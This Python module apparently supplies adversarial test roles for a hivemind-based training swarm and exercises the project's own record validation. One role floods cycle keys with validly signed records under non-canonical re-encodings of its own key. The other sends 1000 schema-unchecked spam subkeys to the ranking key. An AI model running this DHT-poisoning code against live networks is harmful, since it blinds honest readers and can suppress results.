"""DHT abuse: blinding a key with other encodings of one's own key, and spamming one key with many subkeys.

dht-blinder stores, straight through hivemind's store RPC, validly signed records under one key whose
subkeys are its own owner marker in other encodings: the key text with its exponent and modulus mpints
padded with leading zeros (every one parses to the same key and peer id), and the canonical marker in a
non-canonical msgpack header (bin32 where bin16 is canonical). Accepted, they gave one owner hundreds of
records per key, slowed and blinded readers, and let an allowlisted validator's variant hide its own
ranking. subkey-spammer runs its own DHT node without the schema check, so it signs and sends 1000
records under one key with subkeys `[owner:KEY]#n`. Honest nodes refuse all of these
(validation.OwnerKeyCheck and SchemaCheck); readers keep reading the honest records of those keys.
"""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import functools
import struct

from hivemind.dht.crypto import RSASignatureValidator
from hivemind.dht.routing import DHTID
from hivemind.dht.validation import DHTRecord
from hivemind.proto import dht_pb2
from hivemind.utils.crypto import RSAPrivateKey
from hivemind.utils.serializer import MSGPackSerializer

from swarm.net import records
from swarm.net.identity import Identity
from swarm.protocol.cyclelog import Cycle
from swarm.roles.miner import Miner

SPAM_SUBKEYS = 1000
VARIANTS = 64  # other encodings of its own key the blinder stores under each key
TARGETS = ("reveal", "seed-reveal", "ranking", "state")  # keys whose loss would stall a cycle


def bin32(data: bytes) -> bytes:
    """msgpack bytes with a 4-byte length header: decodes to `data`, but is not how msgpack encodes it."""
    return b"\xc6" + struct.pack(">I", len(data)) + data


def _ssh_field(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def key_variants(public_key: bytes | str, n: int = VARIANTS) -> list[bytes]:
    """n texts of the same OpenSSH RSA key, none canonical: its mpints with 1..16 leading zero bytes."""
    text = public_key.decode() if isinstance(public_key, bytes) else public_key
    blob = base64.b64decode(text.split()[1])
    fields, at = [], 0
    while at < len(blob):
        size = struct.unpack(">I", blob[at:at + 4])[0]
        fields.append(blob[at + 4:at + 4 + size])
        at += 4 + size
    name, e, modulus = fields
    out = []
    for i in range(n):
        padded = _ssh_field(name) + _ssh_field(b"\0" * (1 + i % 16) + e) + _ssh_field(b"\0" * (i // 16) + modulus)
        out.append(b"ssh-rsa " + base64.b64encode(padded))
    return out


def blinding_subkeys(public_key: bytes, owner_subkey: bytes, n: int = VARIANTS) -> list[bytes]:
    """The serialized subkeys (as they travel) the blinder signs for: n key-text variants of its own owner
    marker, and the canonical marker with a non-canonical msgpack header."""
    markers = [RSASignatureValidator.PUBLIC_KEY_FORMAT.replace(b"_key_", v) for v in key_variants(public_key, n)]
    return [MSGPackSerializer.dumps(m) for m in markers] + [bin32(owner_subkey)]


async def _store_raw(key: str, value: bytes, public_key: bytes, owner_subkey: bytes, n: int, expiration: float,
                     signer: RSAPrivateKey, _dht, node) -> int:
    """In the DHT process (what crosses the pipe stays small): sign one record per blinding subkey over its
    exact bytes and send them all, in one store request, to every peer the node knows; how many peers
    accepted at least one."""
    key_id = DHTID.generate(source=key)
    subkeys = blinding_subkeys(public_key, owner_subkey, n)
    values = []
    for subkey in subkeys:
        record = DHTRecord(key_id.to_bytes(), subkey, value, expiration)
        signature = signer.sign(MSGPackSerializer.dumps(dataclasses.astuple(record)))
        values.append(value + RSASignatureValidator.SIGNATURE_FORMAT.replace(b"_value_", signature))
    request = dht_pb2.StoreRequest(keys=[key_id.to_bytes()] * len(subkeys), subkeys=subkeys, values=values,
                                   expiration_time=[expiration] * len(subkeys), in_cache=[False] * len(subkeys),
                                   peer=node.protocol.node_info)
    peers = list(node.protocol.routing_table.peer_id_to_uid)
    done = await asyncio.gather(*(node.protocol.get_stub(peer).rpc_store(request, timeout=node.protocol.wait_timeout)
                                  for peer in peers), return_exceptions=True)
    return sum(1 for d in done if isinstance(d, dht_pb2.StoreResponse) and any(d.store_ok))


def store_noncanonical(dht, key: str, value: dict, identity: Identity, expiration: float, n: int = VARIANTS) -> int:
    """Store `value` under `key` with every subkey of blinding_subkeys, signed by `identity`, on every peer
    the node knows; how many peers accepted any of them."""
    return dht.run_coroutine(functools.partial(_store_raw, key, MSGPackSerializer.dumps(value), identity.public_key,
                                               identity.subkey, n, expiration, identity.private_key))


def spam_subkeys(owner_subkey: bytes, n: int = SPAM_SUBKEYS) -> list[bytes]:
    """n subkeys that each contain the owner marker (so hivemind's signature check passes) and are not it."""
    return [owner_subkey + b"#%d" % i for i in range(n)]


async def _spam(key: str, value: dict, owner_subkey: bytes, n: int, expiration: float, _dht, node) -> int:
    """In the DHT process (the call itself stays small): n spam records under one key, 200 a request."""
    subkeys = spam_subkeys(owner_subkey, n)
    stored = 0
    for i in range(0, n, 200):
        part = subkeys[i:i + 200]
        done = await node.store_many([key] * len(part), [value] * len(part), expiration, subkeys=part)
        stored += sum(bool(ok) for ok in done.values())
    return stored


def spam(dht, key: str, value: dict, identity: Identity, expiration: float, n: int = SPAM_SUBKEYS) -> int:
    """Store n records of `identity` under `key` with subkeys `[owner:KEY]#i`; how many a node accepted.

    The DHT node must sign without the schema check (SubkeySpammer.record_validators): hivemind's own
    signature check finds the owner marker inside each subkey and signs it.
    """
    return dht.run_coroutine(functools.partial(_spam, key, value, identity.subkey, n, expiration))


class DhtBlinder(Miner):
    """Trains nothing; each cycle, records under other encodings of its own key under every key the cycle
    depends on."""

    def on_train(self, cycle: Cycle) -> None:
        pass

    def on_commit(self, cycle: Cycle) -> None:
        p = self.peer
        if getattr(p.dht, "run_coroutine", None) is None:
            cycle.log.note += "no hivemind node to send raw records from (in-memory DHT); "
            return
        accepted = {}
        for kind in TARGETS:
            value = records.make_value(p.run_id, cycle.number, kind, _filler(kind, p))
            accepted[kind] = store_noncanonical(p.dht, records.record_key(p.run_id, cycle.number, kind), value,
                                                p.identity, p.clock.cycle_start(cycle.number + 3))
        cycle.log.note += f"records under {VARIANTS + 1} encodings of its own key accepted by {accepted} peers; "


class SubkeySpammer(Miner):
    """Trains nothing; each cycle, 1000 records of its own under the cycle's ranking key."""

    @classmethod
    def record_validators(cls, identity: Identity, run_id: str, horizon) -> list:
        return [RSASignatureValidator(identity.private_key)]  # no schema check: its own node keeps the spam

    def on_train(self, cycle: Cycle) -> None:
        pass

    def on_commit(self, cycle: Cycle) -> None:
        p = self.peer
        value = records.make_value(p.run_id, cycle.number, "ranking", _filler("ranking", p))
        if getattr(p.dht, "run_coroutine", None) is None:
            cycle.log.note += "no hivemind node to spam from (in-memory DHT); "
            return
        stored = spam(p.dht, records.record_key(p.run_id, cycle.number, "ranking"), value, p.identity,
                      p.clock.cycle_start(cycle.number + 3))
        cycle.log.note += f"{stored} of {SPAM_SUBKEYS} spam records accepted; "


def _filler(kind: str, peer) -> records._Record:
    """A well-formed record of the kind, so only the subkey is wrong."""
    h = "0" * 64
    return {"reveal": records.RevealRecord(payload_hash=h, size=peer.rt.payload_size),
            "seed-reveal": records.SeedReveal(seed=h),
            "ranking": records.RankingRecord(entries=[]),
            "state": records.StateRecord(state_hash=h)}[kind]
